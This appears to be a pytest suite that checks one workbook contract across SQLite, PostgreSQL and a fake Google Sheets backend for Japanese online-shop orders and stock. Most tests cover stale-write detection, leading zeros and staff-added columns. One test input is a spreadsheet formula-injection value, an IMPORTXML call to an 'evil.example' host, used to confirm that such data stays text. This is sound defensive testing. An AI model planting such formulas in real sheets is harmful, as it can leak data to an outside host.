"""One contract, every adapter: the same tests run on SQLite, on PostgreSQL (a real server, see
tests/pg_cluster.py) and on Google Sheets (via the fake).

The Google adapter goes through real gspread and google-auth over HTTP to tests/fakes/sheets_api.py.
"""

from __future__ import annotations

from datetime import datetime

import pytest

from sheets_schema.book import ensure_columns, ensure_tabs, read_tables
from sheets_schema.cells import JST
from sheets_schema.changes import WriteJob
from sheets_schema.errors import HeaderError, InvalidRowError, StaleWorkbookError
from sheets_schema.tabs import ORDERS, PRODUCTS, SET_COMPONENTS, STOCK, SYSTEM_STATE, TABS

HARNESS_BACKENDS = ("sql", "postgresql", "google", "hybrid")
NOW = datetime(2026, 11, 30, 14, 5, tzinfo=JST)
FORMULA = '=IMPORTXML("http://evil.example/x","//a")'


def order(number: str, **values: object) -> dict[str, object]:
    row: dict[str, object] = {
        "モール": "楽天",
        "注文番号": number,
        "注文日時": NOW,
        "ステータス": "新規",
        "購入者名": "山田 太郎",
        "合計金額": 3300,
    }
    row.update(values)
    return row


def stock_rows(harness, rows: list[list[object]], header: list[str] | None = None) -> None:
    harness.staff_put(STOCK.title, [header or list(STOCK.headers), *rows])


def test_a_new_workbook_gets_every_tab_with_its_header(harness) -> None:
    workbook = harness.workbook
    ours = [s.title for s in TABS]
    assert [t for t in workbook.tab_titles() if t in ours] == ours  # a staff tab like シート1 may stay
    tables = read_tables(workbook)
    for spec in TABS:
        assert tables[spec.title].grid.header == list(spec.headers)
        assert tables[spec.title].writable
    assert workbook.hidden_titles() == {s.title for s in TABS if s.hidden} >= {SYSTEM_STATE.title}
    assert ensure_tabs(harness.fresh_workbook()) == []


def test_formula_looking_mall_data_stays_text(harness) -> None:
    tables = read_tables(harness.workbook)
    job = WriteJob()
    job.append(
        tables[ORDERS.title], [order("1001", 購入者名=FORMULA, 住所="@SUM(A1)", 備考="+81 90-1234-5678")]
    )
    harness.workbook.write(job)

    tables = read_tables(harness.fresh_workbook())
    job = WriteJob()
    job.set(tables[ORDERS.title], 2, {"送付先氏名": "=1+1", "支払方法": "-2"})
    harness.workbook.write(job)

    (record,) = read_tables(harness.fresh_workbook())[ORDERS.title].records
    got = record.value
    assert (got.buyer_name, got.address, got.note) == (FORMULA, "@SUM(A1)", "+81 90-1234-5678")
    assert (got.recipient_name, got.payment_method) == ("=1+1", "-2")
    if harness.kind == "google":
        column = ORDERS.headers.index("購入者名") + 1
        stored = harness.server.cell(harness.key, ORDERS.title, 2, column)
        assert (stored.value, stored.is_formula) == (FORMULA, False)


def test_identifiers_keep_leading_zeros_and_amounts_stay_numbers(harness) -> None:
    tables = read_tables(harness.workbook)
    job = WriteJob()
    job.append(
        tables[PRODUCTS.title],
        [{"SKU": "00123", "商品名": "手ぬぐい", "販売価格": 1980, "JANコード": "0490123456789"}],
    )
    job.append(tables[ORDERS.title], [order("000777", 郵便番号="0600001", 電話番号="0312345678")])
    harness.workbook.write(job)

    tables = read_tables(harness.fresh_workbook())
    product = tables[PRODUCTS.title].records[0].value
    placed = tables[ORDERS.title].records[0].value
    assert (product.sku, product.jan, product.price) == ("00123", "0490123456789", 1980)
    assert (placed.order_number, placed.postcode, placed.phone) == ("000777", "0600001", "0312345678")
    assert placed.ordered_at == NOW
    if harness.kind == "google":
        price = harness.server.cell(harness.key, PRODUCTS.title, 2, PRODUCTS.headers.index("販売価格") + 1)
        sku = harness.server.cell(harness.key, PRODUCTS.title, 2, 1)
        assert (price.value, sku.value) == (1980, "00123")  # a number staff can SUM, and text


def test_staff_columns_and_column_order_survive_every_write(harness) -> None:
    header = ["棚番", "安全在庫", "SKU", "更新日時", "実在庫", "販売可能数", "引当数", "担当メモ"]
    stock_rows(
        harness,
        [["A-01", 2, "TWL-1", "", 10, 8, 0, "月曜に補充"], ["B-07", 1, "TWL-2", "", 3, 2, 0, ""]],
        header=header,
    )
    tables = read_tables(harness.workbook)
    stock = tables[STOCK.title]
    assert [r.value.safety_stock for r in stock.records] == [2, 1]
    job = WriteJob()
    job.set(stock, 2, {"引当数": 4, "販売可能数": 4, "更新日時": NOW})
    job.append(stock, [{"SKU": "TWL-3", "実在庫": 5, "引当数": 0, "安全在庫": 0, "販売可能数": 5}])
    harness.workbook.write(job)

    assert harness.stored(STOCK.title) == [
        header,
        ["A-01", "2", "TWL-1", "2026-11-30 14:05:00", "10", "4", "4", "月曜に補充"],
        ["B-07", "1", "TWL-2", "", "3", "2", "0"],
        ["", "0", "TWL-3", "", "5", "5", "0"],
    ]


def test_a_missing_required_header_blocks_writes_to_that_tab_only(harness) -> None:
    renamed = ["SKU", "実在庫", "引当数", "安全在庫数", "販売可能数", "更新日時"]
    stock_rows(harness, [["TWL-1", 10, 0, 2, 8, ""]], header=renamed)
    before = harness.stored(STOCK.title)
    tables = read_tables(harness.workbook)
    stock = tables[STOCK.title]
    assert stock.header_problems == [
        "「在庫」シートの1行目に「安全在庫」列がありません。列名を変えた場合は元に戻してください（列は見出しの名前で探しています）"
    ]
    job = WriteJob()
    with pytest.raises(HeaderError, match=r"「在庫」.*「安全在庫」"):
        job.set(stock, 2, {"引当数": 1})
    with pytest.raises(HeaderError, match="「安全在庫」"):
        job.append(stock, [{"SKU": "X"}])
    job.append(tables[ORDERS.title], [order("2001")])  # other tabs are unaffected
    harness.workbook.write(job)
    assert harness.stored(STOCK.title) == before
    assert len(read_tables(harness.workbook)[ORDERS.title].records) == 1


def test_rows_with_errors_are_reported_and_never_overwritten(harness) -> None:
    stock_rows(harness, [["TWL-1", 10, 0, 2, 8], [], ["TWL-2", "たくさん", 0, 1, 0]])
    stock = read_tables(harness.workbook)[STOCK.title]
    assert [(e.row, e.column, e.value) for e in stock.errors] == [(4, "実在庫", "たくさん")]
    assert [r.row for r in stock.records] == [2]
    job = WriteJob()
    with pytest.raises(InvalidRowError, match="4行目"):
        job.set(stock, 4, {"引当数": 1})
    job.set(stock, 2, {"引当数": 1})
    harness.workbook.write(job)
    stored = harness.stored(STOCK.title)
    assert stored[3] == ["TWL-2", "たくさん", "0", "1", "0"]
    assert stored[1][2] == "1"


def test_appends_land_after_the_last_row_in_order(harness) -> None:
    tables = read_tables(harness.workbook)
    for batch in (["1", "2"], ["3"]):
        job = WriteJob()
        job.append(tables[ORDERS.title], [order(n) for n in batch])
        harness.workbook.write(job)
        tables = read_tables(harness.workbook)
    assert [(r.row, r.value.order_number) for r in tables[ORDERS.title].records] == [
        (2, "1"),
        (3, "2"),
        (4, "3"),
    ]


def test_a_job_built_on_a_stale_read_never_overwrites_rows_appended_since(harness) -> None:
    stock_rows(harness, [["TWL-1", 10, 0, 2, 8]])
    tables = read_tables(harness.workbook)
    first, second = WriteJob(), WriteJob()
    first.append(tables[ORDERS.title], [order("A-1"), order("A-2")])
    second.append(tables[ORDERS.title], [order("B-1")])  # built on the same read
    second.set(tables[STOCK.title], 2, {"引当数": 5})
    harness.workbook.write(first)

    with pytest.raises(StaleWorkbookError, match=r"「受注」シート 2行目.*もう一度実行してください"):
        harness.workbook.write(second)

    after = read_tables(harness.fresh_workbook())
    assert [(r.row, r.value.order_number) for r in after[ORDERS.title].records] == [(2, "A-1"), (3, "A-2")]
    assert after[STOCK.title].records[0].value.allocated == 0  # the refused job wrote nothing at all


def test_a_stale_append_is_refused_even_when_only_its_last_row_is_taken(harness) -> None:
    tables = read_tables(harness.workbook)
    harness.staff_put(ORDERS.title, [list(ORDERS.headers), [], [], ["楽天", "手入力"]])
    job = WriteJob()
    job.append(tables[ORDERS.title], [order(str(n)) for n in range(5)])
    with pytest.raises(StaleWorkbookError, match="4行目"):
        harness.workbook.write(job)
    assert harness.stored(ORDERS.title)[1:] == [[], [], ["楽天", "手入力"]]


def test_appends_after_trailing_blank_rows_land_right_after_the_last_row(harness) -> None:
    blank = [""] * len(STOCK.headers)
    stock_rows(harness, [["TWL-1", 10, 0, 2, 8], ["TWL-2", 3, 0, 1, 2], blank, blank, blank])
    tables = read_tables(harness.workbook)
    assert tables[STOCK.title].next_row == 4
    job = WriteJob()
    job.append(
        tables[STOCK.title], [{"SKU": "TWL-3", "実在庫": 5, "引当数": 0, "安全在庫": 0, "販売可能数": 5}]
    )
    harness.workbook.write(job)
    stock = read_tables(harness.fresh_workbook())[STOCK.title]
    assert [(r.row, r.value.sku) for r in stock.records] == [(2, "TWL-1"), (3, "TWL-2"), (4, "TWL-3")]
    assert len(harness.stored(STOCK.title)) == 4


def test_cells_used_counts_each_tab_at_least_as_wide_as_its_header_and_grows_with_rows(harness) -> None:
    at_least = sum(len(spec.headers) for spec in TABS)  # every tab's header row
    before = harness.workbook.cells_used()
    assert before >= at_least
    tables = read_tables(harness.workbook)
    job = WriteJob()
    job.append(tables[ORDERS.title], [order(str(n)) for n in range(1200)])  # past a 1,000-row grid
    harness.workbook.write(job)
    after = harness.fresh_workbook().cells_used()
    assert after - before >= 1200 * len(ORDERS.headers) - 1000 * len(ORDERS.headers)
    if harness.kind == "sql":
        assert after - before == 1200 * len(ORDERS.headers)


def test_reading_a_missing_tab_reports_it_and_blocks_writes(harness) -> None:
    tables = read_tables(harness.workbook, [*TABS[:1], _spec_named("存在しないタブ")])
    missing = tables["存在しないタブ"]
    assert not missing.exists and not missing.writable
    assert missing.header_problems == ["「存在しないタブ」シートがありません"]


def _spec_named(title: str):
    from dataclasses import replace

    return replace(STOCK, title=title)


def test_a_new_state_tab_starts_with_its_lease_row_so_no_two_runners_add_it(harness) -> None:
    state = read_tables(harness.workbook)[SYSTEM_STATE.title]
    assert [(r.row, r.value.key, r.value.value) for r in state.records] == [(2, "同期リース", "")]


def test_a_tail_read_returns_the_header_and_only_the_rows_from_the_mark_on(harness) -> None:
    tables = read_tables(harness.workbook)
    job = WriteJob()
    job.append(tables[ORDERS.title], [order(f"T{n:03d}") for n in range(6)])
    harness.workbook.write(job)

    grids = harness.fresh_workbook().read([ORDERS.title, PRODUCTS.title], start_rows={ORDERS.title: 5})
    tail = grids[ORDERS.title]
    assert tail.header == list(ORDERS.headers)
    assert tail.first_row == 5
    number = ORDERS.headers.index("注文番号")
    assert [r[number] for r in tail.rows] == ["T003", "T004", "T005"]  # sheet rows 5, 6, 7
    assert grids[PRODUCTS.title].first_row == 2  # tabs without a mark are read whole

    # Parsed, the tail keeps sheet row numbers: errors and writes address the rows staff see.
    table = read_tables_tail(harness.fresh_workbook(), start=5)
    assert [r.row for r in table.records] == [5, 6, 7]
    assert table.next_row == 8
    job = WriteJob()
    job.set(table, 6, {"備考": "尾部から更新"})
    job.append(table, [order("T006")])
    harness.workbook.write(job)
    whole = read_tables(harness.fresh_workbook())[ORDERS.title]
    assert whole.models()[4].note == "尾部から更新"
    assert [m.order_number for m in whole.models()][-2:] == ["T005", "T006"]

    # A mark past the last row: the header only, and appends still land at the mark.
    empty = harness.fresh_workbook().read([ORDERS.title], start_rows={ORDERS.title: 9})[ORDERS.title]
    assert (empty.header, empty.rows, empty.first_row) == (list(ORDERS.headers), [], 9)


def read_tables_tail(workbook, *, start: int):
    from sheets_schema.parsing import parse_grid

    grid = workbook.read([ORDERS.title], start_rows={ORDERS.title: start})[ORDERS.title]
    return parse_grid(ORDERS, grid)


def _orders_on_sheet(harness, numbers: list[str]) -> None:
    tables = read_tables(harness.workbook)
    job = WriteJob()
    job.append(tables[ORDERS.title], [order(n) for n in numbers])
    harness.workbook.write(job)


def _stored_numbers(harness) -> list[str]:
    column = ORDERS.headers.index("注文番号")
    return [row[column] for row in harness.stored(ORDERS.title)[1:]]


def test_a_row_a_person_inserts_between_the_read_and_the_write_stops_the_job(harness) -> None:
    _orders_on_sheet(harness, ["1001", "1002"])
    tables = read_tables(harness.fresh_workbook())
    job = WriteJob()
    job.set(tables[ORDERS.title], 2, {"要確認": "住所を確認"})  # meant for 1001, on row 2

    # Staff insert an order at the top: 1001 moves to row 3, their row is now row 2.
    grid = [
        list(ORDERS.headers),
        *[[*r] for r in read_tables(harness.fresh_workbook())[ORDERS.title].grid.rows],
    ]
    staff_row = [""] * len(ORDERS.headers)
    for header, value in order("T-0999", 購入者名="電話注文").items():
        staff_row[ORDERS.headers.index(header)] = (
            str(value) if header != "注文日時" else "2026-11-30 14:05:00"
        )
    harness.staff_put(ORDERS.title, [grid[0], staff_row, *grid[1:]])

    with pytest.raises(StaleWorkbookError, match="「受注」シート 2行目が読み込み後に変わった"):
        harness.workbook.write(job)
    review = ORDERS.headers.index("要確認")
    assert _stored_numbers(harness) == ["T-0999", "1001", "1002"]
    assert all(len(row) <= review or row[review] == "" for row in harness.stored(ORDERS.title)[1:])


def test_a_cell_a_person_typed_between_the_read_and_the_write_is_never_overwritten(harness) -> None:
    stock_rows(harness, [["TSH-WH-M", 20, 0, 2, 18], ["SOX-1", 5, 0, 0, 5]])
    tables = read_tables(harness.fresh_workbook())
    stale = WriteJob()
    stale.set(tables[STOCK.title], 2, {"実在庫": 19, "販売可能数": 17})  # built on 実在庫 20
    elsewhere = WriteJob()
    elsewhere.set(tables[STOCK.title], 3, {"引当数": 1, "販売可能数": 4})

    stock_rows(harness, [["TSH-WH-M", 25, 0, 2, 18], ["SOX-1", 5, 0, 0, 5]])  # counted: 25
    with pytest.raises(StaleWorkbookError, match="「在庫」シート 2行目"):
        harness.workbook.write(stale)
    harness.workbook.write(elsewhere)  # a row nobody touched since the read still goes through

    rows = {r.value.sku: r.value for r in read_tables(harness.fresh_workbook())[STOCK.title]}
    assert (rows["TSH-WH-M"].on_hand, rows["TSH-WH-M"].available) == (25, 18)
    assert (rows["SOX-1"].allocated, rows["SOX-1"].available) == (1, 4)


def test_deleted_rows_go_and_the_rows_below_move_up(harness) -> None:
    _orders_on_sheet(harness, [f"D{n}" for n in range(8)])  # rows 2..9
    tables = read_tables(harness.fresh_workbook())
    job = WriteJob()
    job.delete(tables[ORDERS.title], [2, 3, 4, 7])  # D0, D1, D2 and D5
    job.set(tables[ORDERS.title], 8, {"備考": "残る"})  # D6, addressed as read
    harness.workbook.write(job)

    after = read_tables(harness.fresh_workbook())[ORDERS.title]
    assert [(r.row, r.value.order_number) for r in after] == [(2, "D3"), (3, "D4"), (4, "D6"), (5, "D7")]
    assert after.models()[2].note == "残る"
    job = WriteJob()
    job.append(after, [order("D8")])  # the next append lands right after the rows left
    harness.workbook.write(job)
    assert _stored_numbers(harness) == ["D3", "D4", "D6", "D7", "D8"]


def test_a_delete_built_on_a_stale_read_removes_nothing(harness) -> None:
    _orders_on_sheet(harness, ["S1", "S2"])
    tables = read_tables(harness.fresh_workbook())
    job = WriteJob()
    job.delete(tables[ORDERS.title], [2])  # meant for S1
    grid = [list(ORDERS.headers), *[list(r) for r in tables[ORDERS.title].grid.rows]]
    harness.staff_put(ORDERS.title, [grid[0], grid[2], grid[1]])  # a person sorted the tab
    with pytest.raises(StaleWorkbookError):
        harness.workbook.write(job)
    assert sorted(_stored_numbers(harness)) == ["S1", "S2"]


def test_a_tab_from_an_older_contract_reads_then_gains_the_added_column_at_its_end(harness) -> None:
    """在庫 made before 不良在庫 existed, with a column of staff's own at the end: it reads and
    writes without the new column, then ensure_columns adds it after staff's column."""
    old = ["SKU", "実在庫", "引当数", "安全在庫", "販売可能数", "更新日時", "担当メモ"]
    stock_rows(harness, [["TWL-1", 10, 0, 2, 8, "", "月曜に補充"]], header=old)
    stock = read_tables(harness.workbook)[STOCK.title]
    assert stock.header_problems == [] and stock.records[0].value.defective == 0
    job = WriteJob()
    job.set(stock, 2, {"引当数": 1, "不良在庫": 3})  # 不良在庫 waits for its column
    harness.workbook.write(job)
    assert harness.stored(STOCK.title)[1] == ["TWL-1", "10", "1", "2", "8", "", "月曜に補充"]

    assert ensure_columns(harness.workbook) == ["「在庫」の「不良在庫」"]  # other tabs are new
    assert ensure_columns(harness.workbook) == []  # once
    assert harness.stored(STOCK.title)[0] == [*old, "不良在庫"]
    stock = read_tables(harness.workbook)[STOCK.title]
    job = WriteJob()
    job.set(stock, 2, {"不良在庫": 3})
    harness.workbook.write(job)
    assert harness.stored(STOCK.title)[1] == ["TWL-1", "10", "1", "2", "8", "", "月曜に補充", "3"]
    assert read_tables(harness.workbook)[STOCK.title].records[0].value.defective == 3


def test_set_components_keep_leading_zeros_and_report_a_zero_quantity(harness) -> None:
    """セット構成 (set products) on every adapter: SKUs stay text, 数量 a number, 0 an error."""
    tables = read_tables(harness.workbook)
    job = WriteJob()
    job.append(
        tables[SET_COMPONENTS.title],
        [
            {"セットSKU": "SET-01", "構成SKU": "00123", "数量": 3},
            {"セットSKU": "SET-01", "構成SKU": "00456", "数量": 0, "メモ": "箱"},
        ],
    )
    harness.workbook.write(job)
    table = read_tables(harness.fresh_workbook())[SET_COMPONENTS.title]
    assert [(r.row, r.value.component_sku, r.value.quantity) for r in table] == [(2, "00123", 3)]
    assert [(e.row, e.column) for e in table.errors] == [(3, "数量")]


def test_a_snapshot_sizes_a_tab_as_its_read_and_a_sql_backend_without_reading_it(harness) -> None:
    """ホーム's cell budget sizes 受注, 受注明細 and 在庫移動: the (rows, width) a read would
    give, staff columns and trailing blank rows included, a missing tab as None. SQL counts
    in the database, so a tab nothing else needs is not read just to be counted."""
    from sheets_schema.book import LazyTables
    from sheets_schema.tabs import STOCK_MOVEMENTS

    blank = [""] * (len(STOCK.headers) + 1)
    stock_rows(
        harness,
        [["TWL-1", 10, 0, 2, 8, "", "", "月曜"], ["TWL-2", 3, 0, 1, 2, "", "", ""], blank],
        header=[*STOCK.headers, "担当メモ"],
    )
    job = WriteJob()
    job.append(read_tables(harness.workbook)[ORDERS.title], [order(str(n)) for n in range(7)])
    harness.workbook.write(job)
    workbook = harness.fresh_workbook()
    read = workbook.read([ORDERS.title, STOCK.title, STOCK_MOVEMENTS.title])
    lazy = LazyTables(workbook, prefetch=workbook.info.backend == "google")
    for title in (ORDERS.title, STOCK.title, STOCK_MOVEMENTS.title):
        assert lazy.size(title) == (len(read[title].rows), len(read[title].header))
    assert lazy.size(ORDERS.title)[0] == 7 and lazy.size(STOCK.title)[1] == len(STOCK.headers) + 1
    assert LazyTables(workbook, [_spec_named("存在しないタブ")]).size("存在しないタブ") is None
    if harness.kind == "sql":  # SQLite and PostgreSQL
        assert lazy._raw == {} and lazy._parsed == {}  # counted, nothing read
    lazy[ORDERS.title]  # once parsed, the parsed grid answers
    assert lazy.size(ORDERS.title) == (7, len(read[ORDERS.title].header))
